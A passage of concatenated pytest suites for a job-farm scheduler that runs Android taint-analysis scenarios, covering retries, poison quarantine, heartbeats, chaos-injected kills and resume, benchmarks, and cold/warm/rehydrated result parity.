    assert "shard_cached" in events


def test_resume_reruns_a_missing_shard(tmp_path):
    manifest = _manifest(tmp_path)
    run_dir = str(tmp_path / "run")
    farm = StreamFarm(manifest, workers=1, run_dir=run_dir)
    farm.run()
    results_dir = os.path.join(run_dir, "results")
    victim = sorted(os.listdir(results_dir))[0]
    os.unlink(os.path.join(results_dir, victim))
    resumed = StreamFarm(manifest, workers=1, run_dir=run_dir,
                         resume=True).run()
    assert resumed.jobs == len(manifest)
    assert resumed.cached_jobs == len(manifest) - manifest.shards[0].jobs


def test_rows_stream_from_the_spool(tmp_path):
    manifest = _manifest(tmp_path)
    run_dir = str(tmp_path / "run")
    report = StreamFarm(manifest, workers=1, run_dir=run_dir).run()
    assert report.streamed
    assert report.results == []
    assert report.rows_path is not None
    rows = list(report.rows())
    assert len(rows) == len(manifest)
    assert {row["kind"] for row in rows} == {"corpus"}
    assert {row["status"] for row in rows} == {"ok"}
    # The artifact payload points at the spool instead of inlining rows.
    payload = report.to_dict()
    assert payload["rows"] is None
    assert payload["rows_path"] == report.rows_path
    write_farm_artifacts(report, str(tmp_path / "artifacts"))
    with open(tmp_path / "artifacts" / "farm.json") as handle:
        assert json.load(handle)["jobs"] == len(manifest)


def test_render_caps_the_row_table(tmp_path):
    manifest = _manifest(tmp_path, chunk=2, shard_size=16)
    assert len(manifest) > 48
    report = StreamFarm(manifest, workers=1,
                        run_dir=str(tmp_path / "run")).run()
    text = render_farm_report(report)
    assert "more jobs" in text
    assert f"jobs:    {len(manifest)}" in text


def test_journal_checkpoint_batches_fsync(tmp_path):
    path = str(tmp_path / "journal.jsonl")
    with RunJournal(path, checkpoint_interval=10) as journal:
        for index in range(25):
            journal.record("shard_done", shard=f"s{index}")
    events = list(iter_events(path))
    assert len(events) == 25      # every record flushed, none lost
    # interval=1 keeps the per-record write-ahead discipline.
    with RunJournal(path, checkpoint_interval=1) as journal:
        journal.record("run_end")
    assert list(iter_events(path))[-1]["event"] == "run_end"


def test_merge_fold_matches_materialized_merge():
    def result(index, status="ok"):
        return {"job": {"id": f"corpus:{index}", "kind": "corpus"},
                "status": status, "cached": False,
                "metrics": {"corpus.records": 10, "corpus.type1": index,
                            "queue.depth": index},
                "metrics_gauges": ["queue.depth"],
                "leaks": [], "degraded_events": 0,
                "elapsed_seconds": 0.01}

    results = [result(i) for i in range(20)]
    results.append({**result(20), "status": "crashed",
                    "tombstone": {"error_type": "X", "error_message": "y"}})

    materialized = merge_results(results, workers=2, wall_seconds=1.0)
    fold = MergeFold()
    for row in results:
        fold.add(row)
    streamed = fold.finish(workers=2, wall_seconds=1.0)

    assert streamed.merged_metrics == materialized.merged_metrics
    assert streamed.outcomes == materialized.outcomes
    assert streamed.jobs == materialized.jobs
    assert streamed.completed == materialized.completed
    assert streamed.tombstones == materialized.tombstones
    # Gauges folded by max, counters by sum — incrementally.
    assert streamed.merged_metrics["queue.depth"] == 20
    assert streamed.merged_metrics["corpus.records"] == 210
