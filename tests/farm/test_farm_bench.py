"""The farm scaling benchmark harness."""

import pytest

from repro.bench.farm_bench import (BENCH_SCHEMA_VERSION, FarmBench,
                                    ScalingBench, load_results,
                                    write_results)
from repro.farm import JobSpec, Manifest

TINY = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:benign", kind="scenario", target="benign"),
    JobSpec(id="market:com.market.smsbackup", kind="market",
            target="com.market.smsbackup"),
])


def test_bench_runs_and_checks_parity(tmp_path):
    results = FarmBench(workers=2, manifest=TINY, chaos_seed=None).run()
    assert results["cpus"] >= 1
    runs = results["runs"]
    assert runs["serial"]["workers"] == 1
    assert runs["parallel"]["workers"] == 2
    assert runs["serial"]["jobs"] == len(TINY)
    # The resumed run replays everything the parallel run cached.
    assert runs["resumed"]["cached_jobs"] == len(TINY)
    assert results["parity"]["identical"]
    assert set(results["parity"]["apps"]) == {job.id for job in TINY}
    assert results["speedup"] > 0
    assert results["resume_speedup"] > 0

    path = str(tmp_path / "bench.json")
    write_results(results, path)
    loaded = load_results(path)
    assert loaded["parity"]["identical"]
    assert loaded["runs"]["serial"]["jobs"] == len(TINY)
    # chaos_seed=None skips the recovery drill but keeps the field.
    assert loaded["chaos"] is None


def test_bench_chaos_drill_records_recovery_verdict():
    manifest = Manifest(jobs=[
        JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
        JobSpec(id="scenario:case1", kind="scenario", target="case1"),
        JobSpec(id="scenario:case2", kind="scenario", target="case2"),
        JobSpec(id="scenario:benign", kind="scenario", target="benign"),
    ])
    results = FarmBench(workers=2, manifest=manifest,
                        chaos_seed=7).run()
    chaos = results["chaos"]
    assert chaos["seed"] == 7
    assert chaos["jobs"] == len(manifest)
    assert chaos["recovered"] is True
    assert chaos["failures"] == []
    assert chaos["invariants"]["poison_classified_exactly_once"]
    assert chaos["invariants"]["parity_with_serial_baseline"]
    assert chaos["invariants"]["no_lost_jobs"]
    assert chaos["health"]["poison_quarantined"] == 1


def test_bench_skips_drill_when_manifest_too_small():
    manifest = Manifest(jobs=[
        JobSpec(id="scenario:ephone", kind="scenario", target="ephone")])
    results = FarmBench(workers=2, manifest=manifest).run()
    assert results["chaos"] is None   # one job cannot elect a poison
                                      # target and keep a survivor


def test_schema_version_is_four():
    # v3: the streamed-corpus scaling curve rides along in "scaling".
    # v4: the warm-vs-cold drill rides along in "warm".
    assert BENCH_SCHEMA_VERSION == 4


def test_warm_drill_gates_and_parity():
    from repro.bench.farm_bench import WARM_SPEEDUP_GATE, WarmBench

    drill = WarmBench(repeats=1).run()
    for mode in ("cold", "warm", "rehydrated"):
        assert drill[mode]["jobs"] == len(drill["parity"]["scenarios"])
        assert drill[mode]["per_job_seconds"] > 0
    assert drill["parity"]["identical"]
    assert drill["gate"]["threshold"] == WARM_SPEEDUP_GATE
    # Warm must beat cold on boot+translate per job (the 2x gate).
    assert drill["gate"]["passed"]
    assert drill["speedup_warm_vs_cold"] >= WARM_SPEEDUP_GATE
    # Rehydration proves itself with real cross-process cache hits.
    assert sum(drill["persist_hits"].values()) > 0


def test_scaling_bench_curve_and_marginals():
    import os

    curve = ScalingBench(jobs=60, chunk=10, worker_counts=(1, 2)).run()
    assert curve["records"] == 600
    points = curve["curve"]
    assert [point["workers"] for point in points] == [1, 2]
    for point in points:
        assert point["jobs"] == 60
        assert point["outcomes"] == {"ok": 60}
        assert point["parity_with_serial"]
        assert point["jobs_per_second"] > 0
    assert points[0]["speedup_vs_serial"] == 1.0
    marginals = curve["marginals"]
    assert marginals["exact"]
    assert marginals["measured"]["total"] == 600
    if (os.cpu_count() or 1) <= 1:
        assert curve["parallel_beats_serial"] is None
        assert "skipped" in curve["skip_notice"]
    else:
        assert curve["parallel_beats_serial"] in (True, False)
    assert curve["max_rss_kib"]["scheduler"] > 0


def test_scaling_bench_requires_serial_baseline():
    with pytest.raises(ValueError):
        ScalingBench(worker_counts=(2, 4))
