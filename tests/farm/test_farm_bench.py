"""The farm scaling benchmark harness."""

from repro.bench.farm_bench import FarmBench, load_results, write_results
from repro.farm import JobSpec, Manifest

TINY = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:benign", kind="scenario", target="benign"),
    JobSpec(id="market:com.market.smsbackup", kind="market",
            target="com.market.smsbackup"),
])


def test_bench_runs_and_checks_parity(tmp_path):
    results = FarmBench(workers=2, manifest=TINY).run()
    assert results["cpus"] >= 1
    runs = results["runs"]
    assert runs["serial"]["workers"] == 1
    assert runs["parallel"]["workers"] == 2
    assert runs["serial"]["jobs"] == len(TINY)
    # The resumed run replays everything the parallel run cached.
    assert runs["resumed"]["cached_jobs"] == len(TINY)
    assert results["parity"]["identical"]
    assert set(results["parity"]["apps"]) == {job.id for job in TINY}
    assert results["speedup"] > 0
    assert results["resume_speedup"] > 0

    path = str(tmp_path / "bench.json")
    write_results(results, path)
    loaded = load_results(path)
    assert loaded["parity"]["identical"]
    assert loaded["runs"]["serial"]["jobs"] == len(TINY)
