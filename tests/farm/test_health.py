"""Worker pool health: fork/reap, heartbeats, hung-vs-dead, reclaim."""

import os
import signal
import time

from repro.farm import worker as worker_module
from repro.farm.health import (
    HealthStats,
    WorkerPool,
    stamp_heartbeat,
)

SPEC = {"id": "scenario:fake", "kind": "scenario", "target": "fake"}
DIGEST = "cd" * 32


def make_pool(tmp_path, **options):
    return WorkerPool(hb_dir=str(tmp_path / "hb"), **options)


def spawn(pool, commit=lambda result: None, attempt=1):
    return pool.spawn(SPEC, None, 0, DIGEST, SPEC["id"], attempt, commit)


def wait_reap(pool, timeout=5.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        finished = pool.reap()
        if finished:
            return finished
        time.sleep(0.005)
    raise AssertionError("worker never finished")


class TestSpawnReap:
    def test_clean_worker_commits_and_exits_zero(self, tmp_path, monkeypatch):
        # The fork inherits the monkeypatch: execute_job is resolved
        # through the module at call time, not frozen at import.
        out = str(tmp_path / "committed.json")

        def fake_execute(spec_dict, budget=None):
            return {"digest": spec_dict and DIGEST, "status": "ok"}

        def commit(result):
            with open(out, "w") as handle:
                handle.write(result["status"])

        monkeypatch.setattr(worker_module, "execute_job", fake_execute)
        pool = make_pool(tmp_path)
        handle = spawn(pool, commit)
        assert handle.pid != os.getpid()
        (reaped, status), = wait_reap(pool)
        assert reaped.pid == handle.pid
        assert status == 0
        assert not pool.live
        with open(out) as committed:
            assert committed.read() == "ok"

    def test_crashing_worker_reaps_nonzero(self, tmp_path, monkeypatch):
        def bad_execute(spec_dict, budget=None):
            raise RuntimeError("worker-side explosion")

        monkeypatch.setattr(worker_module, "execute_job", bad_execute)
        pool = make_pool(tmp_path)
        spawn(pool)
        (__, status), = wait_reap(pool)
        assert status == 1

    def test_signal_death_reports_negative_signum(self, tmp_path,
                                                  monkeypatch):
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        pool = make_pool(tmp_path)
        handle = spawn(pool)
        os.kill(handle.pid, signal.SIGKILL)
        (__, status), = wait_reap(pool)
        assert status == -signal.SIGKILL


class TestHeartbeats:
    def test_busy_worker_keeps_stamping(self, tmp_path, monkeypatch):
        interval = 0.02
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        pool = make_pool(tmp_path, interval=interval)
        handle = spawn(pool)
        try:
            time.sleep(interval * pool.miss_threshold * 2)
            # Slow but alive: stamping, never classified hung.
            assert handle.heartbeat_age(time.time()) < \
                interval * pool.miss_threshold
            assert pool.hung() == []
        finally:
            pool.kill(handle)

    def test_stopped_worker_goes_silent_and_reads_hung(self, tmp_path,
                                                       monkeypatch):
        interval = 0.02
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        pool = make_pool(tmp_path, interval=interval)
        handle = spawn(pool)
        try:
            os.kill(handle.pid, signal.SIGSTOP)  # livelock stand-in
            deadline = time.monotonic() + 5.0
            while time.monotonic() < deadline and pool.hung() == []:
                time.sleep(interval)
            assert pool.hung() == [handle]
            # Hung, not dead: WNOHANG still sees it running.
            assert pool.reap() == []
        finally:
            pool.kill(handle)

    def test_kill_fells_a_stopped_worker(self, tmp_path, monkeypatch):
        # SIGKILL is the one signal a SIGSTOP'd process cannot ignore;
        # kill() must reap synchronously with no zombie left behind.
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        pool = make_pool(tmp_path)
        handle = spawn(pool)
        os.kill(handle.pid, signal.SIGSTOP)
        pool.kill(handle)
        assert not pool.live
        with _gone(handle.pid):
            pass

    def test_stale_heartbeat_does_not_vouch_for_new_attempt(self, tmp_path):
        pool = make_pool(tmp_path)
        hb_path = os.path.join(pool.hb_dir, DIGEST)
        stamp_heartbeat(hb_path)
        old = time.time() - 100
        os.utime(hb_path, (old, old))
        handle = spawn(pool, attempt=2)
        try:
            # spawn() re-stamps before forking: age resets.
            assert handle.heartbeat_age(time.time()) < 1.0
        finally:
            pool.kill(handle)


class _gone:
    """Context manager asserting a pid no longer exists (ESRCH)."""

    def __init__(self, pid):
        self.pid = pid

    def __enter__(self):
        try:
            os.kill(self.pid, 0)
        except ProcessLookupError:
            return self
        except PermissionError:  # pragma: no cover - pid reused
            return self
        raise AssertionError(f"pid {self.pid} still exists")

    def __exit__(self, *exc):
        return False


class TestDeadline:
    def test_overdue_ignores_none_deadline(self, tmp_path, monkeypatch):
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        pool = make_pool(tmp_path)
        handle = spawn(pool)
        try:
            assert pool.overdue(None) == []
            assert pool.overdue(100.0) == []
            assert pool.overdue(
                0.0, now_monotonic=time.monotonic() + 1) == [handle]
        finally:
            pool.kill_all()
            assert not pool.live


class TestHealthStats:
    def test_summary_aggregates_reclaims(self):
        stats = HealthStats()
        stats.worker_deaths = 2
        stats.hung_workers = 1
        stats.deadline_kills = 1
        stats.record_reclaim(0.1)
        stats.record_reclaim(0.3)
        summary = stats.summary()
        assert summary["workers_reclaimed"] == 4
        assert summary["mean_time_to_reclaim_seconds"] == \
            (0.1 + 0.3) / 2
        assert summary["lost_jobs"] == 0

    def test_reclaim_clamps_negative_ages(self):
        stats = HealthStats()
        stats.record_reclaim(-0.5)
        assert stats.mean_time_to_reclaim() == 0.0

    def test_register_metrics_exposes_pull_source(self):
        from repro.observability.metrics import MetricsRegistry
        registry = MetricsRegistry()
        stats = HealthStats()
        stats.register_metrics(registry)
        stats.retries = 3
        snapshot = registry.snapshot()
        assert snapshot["farm.health.retries"] == 3
