"""Scheduler fault policy: retries, quarantine, deadlines, clean drain."""

import os
import signal
import threading
import time

import pytest

from repro.farm import worker as worker_module
from repro.farm.journal import iter_events, replay, verify_journal
from repro.farm.manifest import JobSpec, Manifest
from repro.farm.scheduler import (
    CACHEABLE,
    FarmInterrupted,
    FarmScheduler,
    STATUS_LOST,
    STATUS_POISON,
)
from repro.farm.store import ResultStore

TWO_JOBS = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:case2", kind="scenario", target="case2"),
])


class Injector:
    """Minimal chaos stand-in: molest chosen digests on chosen attempts."""

    def __init__(self, kill=(), stop=(), truncate=()):
        self.kill = set(kill)          # (digest, attempt) or (digest, None)
        self.stop = set(stop)
        self.truncate = set(truncate)
        self.injected = []

    def _match(self, table, handle):
        return (handle.digest, handle.attempt) in table or \
            (handle.digest, None) in table

    def on_spawn(self, handle):
        if self._match(self.kill, handle):
            os.kill(handle.pid, signal.SIGKILL)
            self.injected.append(("kill", handle.attempt))
        elif self._match(self.stop, handle):
            os.kill(handle.pid, signal.SIGSTOP)
            self.injected.append(("stop", handle.attempt))

    def on_commit(self, handle, path):
        if self._match(self.truncate, handle):
            size = os.path.getsize(path)
            with open(path, "r+b") as fh:
                fh.truncate(size // 2)
            self.injected.append(("truncate", handle.attempt))


def run_dir_events(run_dir):
    return list(iter_events(os.path.join(run_dir, "journal.jsonl")))


def digest_of(job_id):
    return next(spec.digest() for spec in TWO_JOBS if spec.id == job_id)


class TestRetry:
    def test_killed_worker_is_retried_to_success(self, tmp_path):
        target = digest_of("scenario:ephone")
        injector = Injector(kill=[(target, 1)])
        scheduler = FarmScheduler(TWO_JOBS, workers=2, chaos=injector,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        by_id = {r["job"]["id"]: r for r in results}
        assert by_id["scenario:ephone"]["status"] == "ok"
        assert by_id["scenario:case2"]["status"] == "ok"
        assert scheduler.health.worker_deaths == 1
        assert scheduler.health.retries == 1
        assert injector.injected == [("kill", 1)]
        events = [e["event"] for e in run_dir_events(str(tmp_path / "run"))]
        assert events.count("strike") == 1
        assert events.count("retry") == 1
        assert verify_journal(
            os.path.join(str(tmp_path / "run"), "journal.jsonl")) == []

    def test_torn_result_is_a_strike_then_recovers(self, tmp_path):
        target = digest_of("scenario:case2")
        injector = Injector(truncate=[(target, 1)])
        store = ResultStore(str(tmp_path / "cache"))
        scheduler = FarmScheduler(TWO_JOBS, workers=2, store=store,
                                  chaos=injector,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        assert all(r["status"] == "ok" for r in results)
        assert scheduler.health.torn_results == 1
        assert scheduler.health.retries == 1
        # Recovery healed the store: the entry re-verifies whole.
        good, bad = store.verify()
        assert target in good and not bad

    def test_stopped_worker_reads_hung_and_is_reclaimed(self, tmp_path):
        target = digest_of("scenario:ephone")
        injector = Injector(stop=[(target, 1)])
        scheduler = FarmScheduler(TWO_JOBS, workers=2, chaos=injector,
                                  heartbeat_interval=0.02,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        assert all(r["status"] == "ok" for r in results)
        assert scheduler.health.hung_workers == 1
        assert scheduler.health.workers_reclaimed == 1


class TestExhaustion:
    def test_retries_exhausted_is_lost_and_never_cached(self, tmp_path):
        target = digest_of("scenario:ephone")
        injector = Injector(kill=[(target, None)])   # every attempt
        store = ResultStore(str(tmp_path / "cache"))
        scheduler = FarmScheduler(TWO_JOBS, workers=2, store=store,
                                  chaos=injector, max_retries=1,
                                  poison_threshold=5,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        by_id = {r["job"]["id"]: r for r in results}
        lost = by_id["scenario:ephone"]
        assert lost["status"] == STATUS_LOST
        assert lost["attempts"] == 2                 # initial + 1 retry
        assert STATUS_LOST not in CACHEABLE
        assert store.get(target) is None             # lost never caches
        assert scheduler.health.lost_jobs == 1

    def test_poison_job_quarantined_exactly_once_and_cached(self, tmp_path):
        target = digest_of("scenario:ephone")
        injector = Injector(kill=[(target, None)])
        store = ResultStore(str(tmp_path / "cache"))
        scheduler = FarmScheduler(TWO_JOBS, workers=2, store=store,
                                  chaos=injector, max_retries=5,
                                  poison_threshold=3,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        by_id = {r["job"]["id"]: r for r in results}
        poison = by_id["scenario:ephone"]
        assert poison["status"] == STATUS_POISON
        assert poison["tombstone"]["error_type"] == "PoisonJob"
        assert poison["tombstone"]["strikes"] == 3
        assert scheduler.health.poison_quarantined == 1
        assert scheduler.health.worker_deaths == 3
        journal = os.path.join(str(tmp_path / "run"), "journal.jsonl")
        assert verify_journal(journal) == []
        assert sum(1 for e in iter_events(journal)
                   if e["event"] == "poison") == 1
        # The verdict is cached: a resume replays it, never re-dispatches.
        assert store.get(target)["status"] == STATUS_POISON
        resumed = FarmScheduler(TWO_JOBS, workers=2, store=store,
                                resume=True, chaos=injector,
                                run_dir=str(tmp_path / "run2"))
        second = resumed.run()
        assert resumed.cached_jobs == 2
        assert {r["job"]["id"]: r["status"] for r in second} == \
            {"scenario:ephone": STATUS_POISON, "scenario:case2": "ok"}
        assert resumed.health.poison_quarantined == 0  # no re-classification

    def test_strike_counts_resume_across_scheduler_death(self, tmp_path):
        """Two strikes before the crash + one after = quarantine."""
        target = digest_of("scenario:ephone")
        run_dir = str(tmp_path / "run")
        store = ResultStore(str(tmp_path / "cache"))
        first = FarmScheduler(TWO_JOBS, workers=2, store=store,
                              chaos=Injector(kill=[(target, None)]),
                              max_retries=1, poison_threshold=5,
                              run_dir=run_dir)
        first.run()                                  # 2 strikes, then lost
        assert replay(os.path.join(run_dir, "journal.jsonl")) \
            .strikes(target) == 2
        second = FarmScheduler(TWO_JOBS, workers=2, store=store,
                               resume=True,
                               chaos=Injector(kill=[(target, None)]),
                               max_retries=5, poison_threshold=3,
                               run_dir=run_dir)
        results = second.run()
        by_id = {r["job"]["id"]: r for r in results}
        # One more strike crossed the inherited threshold: 2 + 1 = 3.
        assert by_id["scenario:ephone"]["status"] == STATUS_POISON
        assert by_id["scenario:ephone"]["tombstone"]["strikes"] == 3
        assert second.health.worker_deaths == 1


class TestDeadline:
    def test_overrunning_worker_is_deadline_killed(self, tmp_path,
                                                   monkeypatch):
        # The job heartbeats forever (busy, not hung): only the
        # wall-clock deadline can reclaim it.
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        manifest = Manifest(jobs=[TWO_JOBS.jobs[0]])
        scheduler = FarmScheduler(manifest, workers=2, deadline=0.2,
                                  max_retries=0, heartbeat_interval=0.02,
                                  run_dir=str(tmp_path / "run"))
        results = scheduler.run()
        assert results[0]["status"] == STATUS_LOST
        assert "deadline" in results[0]["error"]
        assert scheduler.health.deadline_kills == 1
        assert scheduler.health.hung_workers == 0


class TestDrain:
    def test_inline_interrupt_journals_and_raises(self, tmp_path,
                                                  monkeypatch):
        calls = []

        def interrupted_job(spec_dict, budget=None):
            calls.append(spec_dict["id"])
            raise KeyboardInterrupt

        monkeypatch.setattr(worker_module, "execute_job", interrupted_job)
        run_dir = str(tmp_path / "run")
        scheduler = FarmScheduler(TWO_JOBS, workers=1, run_dir=run_dir)
        with pytest.raises(FarmInterrupted) as excinfo:
            scheduler.run()
        assert excinfo.value.in_flight == ["scenario:ephone"]
        assert calls == ["scenario:ephone"]          # drain stopped the run
        events = run_dir_events(run_dir)
        assert [e["event"] for e in events][-1] == "interrupted"
        assert scheduler.health.interrupted_jobs == 1

    def test_sigterm_drains_pool_without_leaking_forks(self, tmp_path,
                                                       monkeypatch):
        monkeypatch.setattr(worker_module, "execute_job",
                            lambda spec_dict, budget=None: time.sleep(30))
        run_dir = str(tmp_path / "run")
        scheduler = FarmScheduler(TWO_JOBS, workers=2, run_dir=run_dir)
        previous_handler = signal.getsignal(signal.SIGTERM)
        timer = threading.Timer(0.4, os.kill, (os.getpid(), signal.SIGTERM))
        timer.start()
        try:
            with pytest.raises(FarmInterrupted) as excinfo:
                scheduler.run()
        finally:
            timer.cancel()
        assert sorted(excinfo.value.in_flight) == \
            ["scenario:case2", "scenario:ephone"]
        events = run_dir_events(run_dir)
        dispatched = {e["digest"]: e["pid"] for e in events
                      if e["event"] == "dispatched"}
        interrupted = [e for e in events if e["event"] == "interrupted"]
        assert len(interrupted) == 2
        assert scheduler.health.interrupted_jobs == 2
        # No leaked forks: every dispatched worker pid is gone.
        for pid in dispatched.values():
            with pytest.raises(ProcessLookupError):
                os.kill(pid, 0)
        # The previous SIGTERM disposition was restored on the way out.
        assert signal.getsignal(signal.SIGTERM) == previous_handler
