"""Chaos: deterministic injection + the kill/tear/resume recovery drill."""

import json
import os

import pytest

from repro.farm.chaos import (
    ChaosMonkey,
    parity_fields,
    pick_poison_digest,
    run_chaos_harness,
    render_chaos_report,
)
from repro.farm.manifest import JobSpec, Manifest

SEED = 20260808

CORPUS = Manifest(jobs=[
    JobSpec(id="scenario:ephone", kind="scenario", target="ephone"),
    JobSpec(id="scenario:case1", kind="scenario", target="case1"),
    JobSpec(id="scenario:case2", kind="scenario", target="case2"),
    JobSpec(id="scenario:qqphonebook", kind="scenario",
            target="qqphonebook"),
    JobSpec(id="scenario:benign", kind="scenario", target="benign"),
])


class TestDeterminism:
    def test_same_seed_same_decisions_everywhere(self):
        digest = CORPUS.jobs[0].digest()
        first = ChaosMonkey(SEED)
        second = ChaosMonkey(SEED)
        decisions = [(first.wants_kill(digest, a),
                      first.wants_stop(digest, a),
                      first.wants_truncate(digest, a)) for a in (1, 2, 3)]
        assert decisions == [(second.wants_kill(digest, a),
                              second.wants_stop(digest, a),
                              second.wants_truncate(digest, a))
                             for a in (1, 2, 3)]

    def test_poison_target_is_killed_on_every_attempt(self):
        digest = CORPUS.jobs[0].digest()
        monkey = ChaosMonkey(SEED, poison_digest=digest)
        assert all(monkey.wants_kill(digest, a) for a in (1, 2, 3, 4))
        # A kill decision pre-empts a stop; the poison file is never torn
        # (its job never commits a result to tear).
        assert not any(monkey.wants_stop(digest, a) for a in (1, 2))
        assert not monkey.wants_truncate(digest, 1)

    def test_non_poison_jobs_molested_on_first_attempt_only(self):
        monkey = ChaosMonkey(SEED, poison_digest="ff" * 32,
                             kill_pct=100, stop_pct=100, truncate_pct=100)
        digest = CORPUS.jobs[1].digest()
        assert monkey.wants_kill(digest, 1)
        assert not monkey.wants_kill(digest, 2)
        assert monkey.wants_truncate(digest, 1)
        assert not monkey.wants_truncate(digest, 2)

    def test_poison_election_is_stable_per_seed(self):
        chosen = pick_poison_digest(CORPUS, SEED)
        assert chosen == pick_poison_digest(CORPUS, SEED)
        assert chosen in {spec.digest() for spec in CORPUS}
        others = {pick_poison_digest(CORPUS, seed)
                  for seed in range(20)}
        assert len(others) > 1    # the seed genuinely moves the election

    def test_empty_manifest_has_no_poison_candidate(self):
        with pytest.raises(ValueError):
            pick_poison_digest(Manifest(jobs=[]), SEED)


class TestRecoveryDrill:
    """Satellite proof: SIGKILL the scheduler mid-run, resume, compare
    field-for-field against an uninterrupted serial run."""

    @pytest.fixture(scope="class")
    def report(self, tmp_path_factory):
        out = str(tmp_path_factory.mktemp("chaos"))
        return run_chaos_harness(CORPUS, seed=SEED, out_dir=out,
                                 workers=2), out

    def test_all_recovery_invariants_hold(self, report):
        chaos_report, __ = report
        assert chaos_report.invariants.get("scheduler_was_killed"), \
            "the drill must actually SIGKILL the scheduler mid-run"
        assert chaos_report.invariants.get("torn_file_injected")
        assert chaos_report.failures == []
        assert chaos_report.ok

    def test_resumed_report_matches_serial_baseline_field_for_field(
            self, report):
        chaos_report, __ = report
        final = chaos_report.final_report
        # Re-run the clean serial baseline and compare every
        # deterministic field of every non-poison row.
        from repro.farm.scheduler import FarmScheduler
        serial = FarmScheduler(CORPUS, workers=1).run()
        baseline = {row["digest"]: parity_fields(row) for row in serial}
        recovered = {row["digest"]: parity_fields(row)
                     for row in final.results}
        for digest, fields in baseline.items():
            if digest == chaos_report.poison_digest:
                continue
            assert recovered[digest] == fields
        assert set(recovered) == set(baseline)

    def test_poison_is_the_elected_target_quarantined_once(self, report):
        chaos_report, __ = report
        poison_rows = [row for row in chaos_report.final_report.results
                       if row["status"] == "poison"]
        assert len(poison_rows) == 1
        assert poison_rows[0]["digest"] == chaos_report.poison_digest
        assert poison_rows[0]["tombstone"]["error_type"] == "PoisonJob"

    def test_artifact_written_and_renders(self, report):
        chaos_report, out = report
        with open(os.path.join(out, "chaos.json")) as handle:
            persisted = json.load(handle)
        assert persisted["ok"] is True
        assert persisted["seed"] == SEED
        assert persisted["invariants"] == chaos_report.invariants
        assert persisted["stats"]["journal_events"]["run_start"] >= 2
        text = render_chaos_report(chaos_report)
        assert "verdict: RECOVERED" in text
        assert "[ok] parity_with_serial_baseline" in text
        assert "scheduler SIGKILL" in text
