"""Differential parity: cold boot vs warm reset vs persistent rehydrate.

The acceptance bar for the warm-worker farm: across every built-in
scenario, all three execution modes must be *engine-identical* — the
same leak rows, the same work counters (native/Dalvik instruction
counts, host calls, syscalls, GC cycles), and the same detection
verdict.  A warm reset or a cache rehydration that perturbs any of
these is a correctness bug, not a performance trade.
"""

import pytest

from repro.apps import ALL_SCENARIOS
from repro.apps.base import run_scenario
from repro.bench.harness import make_platform
from repro.emulator.persist import TranslationPersistence

SCENARIOS = sorted(ALL_SCENARIOS)


def observe(platform, scenario):
    records = platform.leaks.records
    if scenario.expected_taint:
        detected = any(r.taint & scenario.expected_taint for r in records)
    else:
        detected = bool(records)
    return {
        "leaks": [(r.detector, r.sink, r.taint, r.destination,
                   r.payload.hex(), r.context) for r in records],
        "counters": platform.work_counters(),
        "detected": detected,
    }


@pytest.fixture(scope="module")
def cold_baseline():
    baseline = {}
    for name in SCENARIOS:
        scenario = ALL_SCENARIOS[name]()
        platform = make_platform("ndroid")
        run_scenario(scenario, platform)
        baseline[name] = observe(platform, scenario)
    return baseline


@pytest.fixture(scope="module")
def warm_template():
    platform = make_platform("ndroid")
    platform.prepare_template()
    return platform


@pytest.fixture(scope="module")
def seeded_cache(tmp_path_factory):
    """A translation cache populated by one cold pass over everything."""
    root = str(tmp_path_factory.mktemp("tbcache"))
    for name in SCENARIOS:
        platform = make_platform("ndroid")
        platform.attach_persistence(TranslationPersistence(root))
        run_scenario(ALL_SCENARIOS[name](), platform)
        platform.persist_translations()
    return root


@pytest.mark.parametrize("name", SCENARIOS)
def test_warm_reset_matches_cold(name, cold_baseline, warm_template):
    warm_template.reset_for_job()
    scenario = ALL_SCENARIOS[name]()
    run_scenario(scenario, warm_template)
    assert observe(warm_template, scenario) == cold_baseline[name]


@pytest.mark.parametrize("name", SCENARIOS)
def test_rehydrated_matches_cold(name, cold_baseline, seeded_cache):
    scenario = ALL_SCENARIOS[name]()
    platform = make_platform("ndroid")
    persistence = TranslationPersistence(seeded_cache)
    platform.attach_persistence(persistence)
    run_scenario(scenario, platform)
    assert observe(platform, scenario) == cold_baseline[name]
    # The cache must actually participate — rehydration, not a re-decode.
    assert sum(c["hits"] for c in persistence.counters.values()) > 0


def test_warm_then_rehydrated_interleaved(cold_baseline, warm_template,
                                          seeded_cache):
    """Mode order can't matter: alternate modes over the same scenarios."""
    for name in SCENARIOS[:4]:
        scenario = ALL_SCENARIOS[name]()
        warm_template.reset_for_job()
        run_scenario(scenario, warm_template)
        assert observe(warm_template, scenario) == cold_baseline[name]

        scenario = ALL_SCENARIOS[name]()
        platform = make_platform("ndroid")
        platform.attach_persistence(TranslationPersistence(seeded_cache))
        run_scenario(scenario, platform)
        assert observe(platform, scenario) == cold_baseline[name]
