"""Farm manifests: digest stability and corpus construction."""

import json
import os

import pytest

from repro.farm.manifest import (FARM_SCHEMA_VERSION, JobSpec, Manifest,
                                 ShardedManifest, iter_corpus_jobs)


def test_digest_is_stable_across_instances():
    a = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    b = JobSpec(id="scenario:ephone", kind="scenario", target="ephone")
    assert a.digest() == b.digest()
    assert len(a.digest()) == 64


def test_digest_changes_with_any_field():
